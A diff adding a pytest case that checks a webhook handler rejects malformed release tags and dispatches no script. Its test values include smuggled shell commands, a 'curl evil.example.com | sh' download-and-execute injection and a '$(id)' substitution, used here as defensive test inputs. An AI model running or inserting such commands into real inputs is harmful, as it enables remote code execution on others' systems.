@@ -211,6 +211,15 @@ def test_every_delivery_has_a_verdict_and_a_reason(world: World, change: dict[st
     assert world.dispatched() == []
 
 
+@pytest.mark.parametrize(
+    "tag", ["1.0; curl evil.example.com | sh", "$(id)", "../../catalog", "a b", "-x", "ü", "a\nb", "x" * 129, "v1:2"]
+)
+def test_a_tag_that_no_registry_takes_reaches_no_script(world: World, tag: str) -> None:
+    event = world.hook(tag=tag)
+    assert event.verdict == "unreadable" and "No registry takes" in event.reason
+    assert world.dispatched() == []
+
+
 def test_an_unknown_token_is_recorded(world: World) -> None:
     event = world.hook(token_hash="other")
     assert event.verdict == "unknown token"
